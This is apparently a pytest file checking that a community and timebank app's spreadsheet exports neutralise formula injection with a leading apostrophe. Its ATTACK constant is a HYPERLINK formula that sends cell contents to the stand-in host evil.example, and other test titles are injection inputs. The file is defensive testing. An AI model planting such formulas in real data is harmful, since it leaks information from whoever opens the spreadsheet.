"""Spreadsheet formula injection: user text in every .xlsx export is written inert (a leading apostrophe
before = + - @ tab CR), read back through the real export endpoints; numbers stay numbers."""
from __future__ import annotations

import ast
import io
from pathlib import Path

import sqlalchemy as sa
from openpyxl import load_workbook

from app.community.models import CommunityApplication, CommunityVolunteer
from app.core.unit_of_work import unit_of_work
from app.extensions import db
from app.timebank.models import OrderStatus
from tests.community.factories_showcase import member_of, star_world
from tests.factories import auth, token_for
from tests.timebank.factories_orders import make_order, make_order_world

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"点我")'


def _rows(response, sheet=None) -> list:
    assert response.status_code == 200, response.json
    book = load_workbook(io.BytesIO(response.data))  # not read_only: cells keep their data_type
    return list((book[sheet] if sheet else book.active).iter_rows())


def _assert_inert(cell, text: str) -> None:
    # XML parsers normalise a raw CR to LF on reading; the apostrophe still comes first.
    assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")
    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_order_title_that_is_a_formula_is_exported_as_text(client, app_ctx):
    world = make_order_world("inert")
    titles = [ATTACK, "+86 020-1234", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    for title in titles:
        make_order(world.station, status=OrderStatus.OPEN, title=title)
    make_order(world.station, status=OrderStatus.OPEN, title="陪长者\x07就医")  # a control character XML cannot hold
    rows = _rows(client.get("/api/v1/orders/export", query_string={"tab": "all"},
                            headers=auth(token_for(world.association_admin))))
    by_title = {row[1].value: row for row in rows[1:]}
    for title in titles:
        row = by_title["'" + title.replace("\r", "\n")]
        _assert_inert(row[1], title)
        assert row[8].data_type == "n" and row[8].value == 0  # donated points stay a number
    assert "陪长者就医" in by_title


def test_a_work_unit_that_is_a_formula_is_exported_as_text(client, app_ctx):
    world = star_world()
    member = member_of(world["华农"], "王小明")
    with unit_of_work():
        for model in (CommunityApplication, CommunityVolunteer):
            db.session.execute(sa.update(model).where(model.user_id == member).values(work_unit=ATTACK))
    rows = _rows(client.get("/api/v1/community/stats/export", headers=auth(token_for(world["华农_admin"]))),
                 "工作单位")
    unit = rows[1]
    _assert_inert(unit[0], ATTACK)
    assert unit[1].data_type == "n" and unit[1].value == 1


def test_only_the_files_module_writes_spreadsheets():
    """Every export (synchronous or a job) goes through app/exports/workbook.py's ExportWorkbook, so no sheet
    skips the neutralising; every import reads through app/core/sheets.py, formulas as text."""
    app = Path(__file__).resolve().parents[2] / "app"
    importers = []
    for path in app.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if any(name.split(".")[0] == "openpyxl" for name in names):
                importers.append(str(path.relative_to(app.parent)))
    assert sorted(set(importers)) == ["app/core/sheets.py", "app/exports/workbook.py"]
